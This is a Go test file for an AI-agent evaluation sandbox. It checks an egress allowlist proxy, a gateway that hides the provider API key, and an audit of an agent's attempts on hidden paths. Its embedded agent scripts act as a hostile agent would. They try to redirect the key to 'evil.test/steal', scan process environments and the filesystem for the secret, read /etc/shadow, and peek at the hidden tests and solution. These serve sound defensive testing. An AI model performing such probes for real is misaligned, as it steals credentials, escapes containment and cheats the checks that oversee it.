package trial

import (
	"context"
	"crypto/ed25519"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/proctor-sandbox/proctor/internal/bundle"
	"github.com/proctor-sandbox/proctor/internal/gateway"
)

// testResolve stands in for DNS: the test's names all live on the host's
// loopback.
func testResolve(_ context.Context, host string) ([]netip.Addr, error) {
	switch strings.TrimSuffix(strings.ToLower(host), ".") {
	case "api.provider.test", "other.test", "sub.wild.test", "localhost":
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	}
	return nil, fmt.Errorf("no such host %s", host)
}

// runNetTrial runs agent with net in a fresh output directory.
func runNetTrial(t *testing.T, agent, agentDir string, n NetOptions, noAudit bool) (*Verdict, string) {
	t.Helper()
	requireRoot(t)
	requireTool(t, "python3")
	out := filepath.Join(t.TempDir(), "out")
	tk := writeTask(t, taskSpec{files: map[string]string{"a.txt": "a\n"}, test: "echo 1 > /logs/verifier/reward.txt"})
	v, err := Run(context.Background(), Options{Task: tk, Agent: agent, AgentDir: agentDir, Out: out,
		CacheDir: sharedCache, Key: testKey, Net: n, NoAudit: noAudit})
	if err != nil {
		t.Fatalf("Run: %v\nagent log:\n%s", err, readFile(t, filepath.Join(out, AgentLog)))
	}
	return v, out
}

// verifiedEvents checks the bundle and returns its timeline.
func verifiedEvents(t *testing.T, out string) []bundle.Event {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(out, BundleFile))
	if err != nil {
		t.Fatal(err)
	}
	p, err := bundle.Verify(data, bundle.WithPublicKey(testKey.Public().(ed25519.PublicKey)), bundle.WithArtifactDir(out), bundle.WithRequireArtifacts())
	if err != nil {
		t.Fatalf("the bundle does not verify: %v", err)
	}
	return p.Timeline
}

func eventsOf(evs []bundle.Event, kind string) []map[string]any {
	var ds []map[string]any
	for _, e := range evs {
		if e.Kind == kind {
			var d map[string]any
			_ = json.Unmarshal(e.Detail, &d)
			ds = append(ds, d)
		}
	}
	return ds
}

// probeResults reads the "NAME: RESULT" lines netprobe.py prints.
func probeResults(log string) map[string]string {
	m := map[string]string{}
	for _, line := range strings.Split(log, "\n") {
		if k, v, ok := strings.Cut(line, ": "); ok {
			m[k] = v
		}
	}
	return m
}

// The agent reaches an allowed host through the proxy and nothing else:
// not other hosts, IP literals, a wrong SNI, the metadata address, DNS,
// raw sockets, IPv6 or the host's loopback. Every decision is on the
// record and the bundle verifies.
func TestAllowlistEgress(t *testing.T) {
	provider := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "provider-ok")
	}))
	defer provider.Close()
	var otherHits atomic.Int64
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		otherHits.Add(1)
		fmt.Fprint(w, "the answer")
	}))
	defer other.Close()
	// The same host server on ::1, when the host has IPv6 loopback.
	if l6, err := net.Listen("tcp", "[::1]:"+port(t, other.URL)); err == nil {
		go (&http.Server{Handler: other.Config.Handler}).Serve(l6)
		defer l6.Close()
	}

	agentDir := t.TempDir()
	cert := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: provider.Certificate().Raw})
	must(t, os.WriteFile(filepath.Join(agentDir, "ca.pem"), cert, 0o644))
	probe, err := os.ReadFile(filepath.Join("testdata", "netprobe.py"))
	must(t, err)
	must(t, os.WriteFile(filepath.Join(agentDir, "netprobe.py"), probe, 0o644))
	openUp(t, agentDir)

	allowed := "api.provider.test:" + port(t, provider.URL)
	args, _ := json.Marshal(map[string]any{"allowed": allowed, "other_port": atoiT(t, port(t, other.URL))})
	v, out := runNetTrial(t, "python3 /agent/netprobe.py "+shellQuote(string(args)), agentDir, NetOptions{
		AllowHosts: []string{allowed, "*.wild.test:" + port(t, other.URL), "169.254.169.254:80"},
		Resolve:    testResolve,
	}, false)
	log := readFile(t, filepath.Join(out, AgentLog))
	res := probeResults(log)
	if res["allowed_tls"] != "ok" {
		t.Errorf("the allowed host was not reached: %q\n%s", res["allowed_tls"], log)
	}
	for _, name := range []string{"not_listed", "ip_literal", "decimal_ip", "wildcard_loopback", "metadata"} {
		if !strings.Contains(res[name], "403") {
			t.Errorf("%s: %q, want a 403 from the proxy", name, res[name])
		}
	}
	if res["plain_http_denied"] != "HTTP 403" {
		t.Errorf("plain_http_denied: %q, want HTTP 403", res["plain_http_denied"])
	}
	for _, name := range []string{"sni_mismatch", "direct_v4", "direct_v6", "direct_out", "dns", "udp", "raw"} {
		if r := res[name]; !strings.HasPrefix(r, "error") {
			t.Errorf("%s: %q, want an error", name, r)
		}
	}
	if r := res["packet"]; !strings.HasPrefix(r, "error") && r != "opened on ['lo']" {
		t.Errorf("packet: %q: a packet socket must see no interface but lo", r)
	}
	if n := otherHits.Load(); n != 0 {
		t.Errorf("the host server that is not on the list got %d request(s)", n)
	}

	evs := verifiedEvents(t, out)
	allows, denies := eventsOf(evs, "proxy.allow"), eventsOf(evs, "proxy.deny")
	if len(allows) != 1 || allows[0]["host"] != "api.provider.test" || allows[0]["bytes_down"].(float64) == 0 {
		t.Errorf("proxy.allow events: %v", allows)
	}
	reasons := map[string]string{}
	for _, d := range denies {
		reasons[d["host"].(string)] += d["reason"].(string) + ";"
	}
	for _, h := range []string{"api.provider.test", "other.test", "127.0.0.1", "sub.wild.test", "169.254.169.254"} {
		if reasons[h] == "" {
			t.Errorf("no proxy.deny event for %s (denials: %v)", h, reasons)
		}
	}
	if !strings.Contains(reasons["api.provider.test"], "evil.test") {
		t.Errorf("the SNI mismatch's reason does not name the SNI: %q", reasons["api.provider.test"])
	}
	attempts := eventsOf(evs, "net.attempt")
	seen := map[string]bool{}
	for _, a := range attempts {
		seen[fmt.Sprint(a["addr"], " ", a["port"])] = true
	}
	for _, want := range []string{"192.0.2.1 80", "8.8.8.8 53", "127.0.0.1 " + port(t, other.URL), "::1 " + port(t, other.URL)} {
		if !seen[want] {
			t.Errorf("no net.attempt event for %s (saw %v)", want, seen)
		}
	}
	if len(eventsOf(evs, "net.local")) == 0 {
		t.Errorf("the connects to the proxy were not recorded as net.local")
	}
	if v.Network.Mode != "allowlist" || v.Network.Allowed != 1 || v.Network.Denied < 6 {
		t.Errorf("verdict network %+v", v.Network)
	}
}

// The gateway hands the agent its model and never its key: the real key
// reaches the provider, and nothing inside the sandbox can find it.
func TestModelGatewayHidesTheKey(t *testing.T) {
	const realKey = "sk-real-4f1e6b0c9d2a7e35"
	t.Setenv("OPENAI_API_KEY", realKey)
	var gotKeys []string
	var paths []string
	provider := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotKeys = append(gotKeys, r.Header.Get("Authorization"))
		paths = append(paths, r.Host+r.URL.Path)
		body, _ := io.ReadAll(r.Body)
		var req struct{ Model string }
		_ = json.Unmarshal(body, &req)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"model":%q,"choices":[{"message":{"content":"hello"}}],"usage":{"prompt_tokens":11,"completion_tokens":7,"total_tokens":18}}`, req.Model)
	}))
	defer provider.Close()
	specs, err := gateway.ParseSpecs("openai=" + provider.URL + "/v1")
	must(t, err)

	agent := `set -u
echo "base=$OPENAI_BASE_URL key=$OPENAI_API_KEY"
python3 - <<'PY'
import json, os, urllib.request
req = urllib.request.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions",
    data=json.dumps({"model": "gpt-test", "messages": []}).encode(),
    headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"})
print("reply:", urllib.request.urlopen(req, timeout=10).read().decode())
# Try to make the gateway send the key elsewhere.
import http.client
c = http.client.HTTPConnection("127.0.0.1", int(os.environ["OPENAI_BASE_URL"].split(":")[2].split("/")[0]))
for path, host in [("http://evil.test/steal", "evil.test"), ("/v1/x", "evil.test")]:
    try:
        c.request("GET", path, headers={"Host": host})
        print("redirect-try:", c.getresponse().status)
    except Exception as e:
        print("redirect-try: error", e)
        c = http.client.HTTPConnection("127.0.0.1", int(os.environ["OPENAI_BASE_URL"].split(":")[2].split("/")[0]))
PY
# Look for the key everywhere the agent can look: the environment, every
# process's environ and command line, every file outside /proc, /sys and
# /usr. The key is built in memory only, so no argv holds it.
python3 - <<'PY'
import os
key = ("sk-real-" + "4f1e6b0c9d2a7e35").encode()
if key in b"".join(k + b"=" + v for k, v in os.environb.items()): print("FOUND-ENV")
me = str(os.getpid())
for p in os.listdir("/proc"):
    if p.isdigit() and p != me:
        for f in ("environ", "cmdline"):
            try:
                if key in open(f"/proc/{p}/{f}", "rb").read(): print("FOUND-PROC", p, f)
            except OSError: pass
import stat
for root, dirs, files in os.walk("/"):
    if root == "/": dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev")]
    for n in files:
        p = os.path.join(root, n)
        try:
            if not stat.S_ISREG(os.lstat(p).st_mode): continue
            with open(p, "rb") as fh:
                if key in fh.read(1 << 24): print("FOUND-FS", p)
        except OSError: pass
PY
echo searched`
	v, out := runNetTrial(t, agent, "", NetOptions{Gateways: specs, Getenv: os.Getenv}, false)
	log := readFile(t, filepath.Join(out, AgentLog))
	if !strings.Contains(log, `reply: {"model":"gpt-test"`) || !strings.Contains(log, "searched") {
		t.Fatalf("the agent did not get its reply:\n%s", log)
	}
	if strings.Contains(log, realKey) || strings.Contains(log, "FOUND") {
		t.Fatalf("the real key is visible inside the sandbox:\n%s", log)
	}
	if !strings.Contains(log, "key="+gateway.DummyKey) || !strings.Contains(log, "base=http://127.0.0.1:4100/v1") {
		t.Errorf("the agent's environment is not the gateway's:\n%s", log)
	}
	for i, k := range gotKeys {
		if k != "Bearer "+realKey {
			t.Errorf("call %d reached the provider with Authorization %q", i, k)
		}
	}
	for _, p := range paths {
		if strings.Contains(p, "evil") || !strings.HasPrefix(p, strings.TrimPrefix(provider.URL, "http://")) {
			t.Errorf("a call reached %q", p)
		}
	}
	m := v.Models
	var u *ModelUsage
	for i := range m.Usage {
		if m.Usage[i].Model == "gpt-test" {
			u = &m.Usage[i]
		}
	}
	if u == nil || u.Calls != 1 || u.InputTokens != 11 || u.OutputTokens != 7 || m.Calls != 3 {
		t.Fatalf("verdict models: %+v", m)
	}
	calls := eventsOf(verifiedEvents(t, out), "gateway.call")
	if len(calls) == 0 || calls[0]["model"] != "gpt-test" || calls[0]["request_sha256"] == "" {
		t.Errorf("gateway.call events: %v", calls)
	}
	data, _ := os.ReadFile(filepath.Join(out, BundleFile))
	audit, _ := os.ReadFile(filepath.Join(out, AuditFile))
	if strings.Contains(string(data)+string(audit), realKey) {
		t.Errorf("the real key is in the bundle or the audit log")
	}
}

// The audit records attempts on hidden paths and connects, whatever the
// agent makes of them; with --no-audit it records none, and says so.
func TestAuditRecordsHiddenAttempts(t *testing.T) {
	agent := `cat /tests/test.sh; ls /solution; cat /etc/shadow; touch /tests/x; mkdir /solution/y
python3 -c 'import socket; s=socket.socket(); s.settimeout(1)
try: s.connect(("192.0.2.7", 81))
except Exception as e: print(e)'
i=0; while [ $i -lt 1100 ]; do [ -e /tests/flood$i ]; i=$((i+1)); done
exit 0`
	v, out := runNetTrial(t, agent, "", NetOptions{}, false)
	evs := verifiedEvents(t, out)
	paths := map[string]bool{}
	for _, e := range evs {
		if strings.HasPrefix(e.Kind, "hidden.") {
			var d map[string]any
			_ = json.Unmarshal(e.Detail, &d)
			paths[e.Kind+" "+d["path"].(string)] = true
		}
	}
	for _, want := range []string{"hidden.lookup /tests/test.sh", "hidden.opendir /solution", "hidden.open /etc/shadow"} {
		if !paths[want] {
			t.Errorf("no %q event (saw %d kinds/paths, e.g. %v)", want, len(paths), firstN(paths, 10))
		}
	}
	writes := 0
	for p := range paths {
		if strings.Contains(p, "/tests/x") || strings.Contains(p, "/solution/y") {
			writes++
		}
	}
	if writes < 2 {
		t.Errorf("the writes into the traps were not recorded: %v", firstN(paths, 20))
	}
	found := false
	for _, a := range eventsOf(evs, "net.attempt") {
		if a["addr"] == "192.0.2.7" && a["port"] == float64(81) {
			found = true
		}
	}
	if !found {
		t.Errorf("the connect to 192.0.2.7:81 was not recorded")
	}
	if v.Audit.Hidden != "trap" || v.Audit.Network != "seccomp-notify" {
		t.Errorf("verdict audit %+v", v.Audit)
	}
	if v.Audit.LeftOut["hidden.lookup"] == 0 || v.Audit.Counts["hidden.lookup"] < 1100 {
		t.Errorf("the flood was neither counted nor bounded: counts %v, left out %v", v.Audit.Counts, v.Audit.LeftOut)
	}
	if len(eventsOf(evs, "audit.suppressed")) != 1 {
		t.Errorf("no audit.suppressed event")
	}
	if v.Status != StatusClean || len(v.Violations) != 0 {
		t.Errorf("status %s, violations %s: the trap's mount points must not look like changes", v.Status, violations(v))
	}

	v, out = runNetTrial(t, agent, "", NetOptions{}, true)
	evs = verifiedEvents(t, out)
	for _, e := range evs {
		if strings.HasPrefix(e.Kind, "hidden.") || strings.HasPrefix(e.Kind, "net.") {
			t.Fatalf("--no-audit recorded %s", e.Kind)
		}
	}
	if v.Audit.Hidden != "off" || v.Audit.Network != "off" {
		t.Errorf("verdict audit %+v, want off", v.Audit)
	}
}

func firstN(m map[string]bool, n int) []string {
	var s []string
	for k := range m {
		if len(s) == n {
			break
		}
		s = append(s, k)
	}
	return s
}

func port(t *testing.T, rawURL string) string {
	t.Helper()
	i := strings.LastIndexByte(rawURL, ':')
	return strings.TrimRight(rawURL[i+1:], "/")
}

func atoiT(t *testing.T, s string) int {
	n, err := strconv.Atoi(s)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
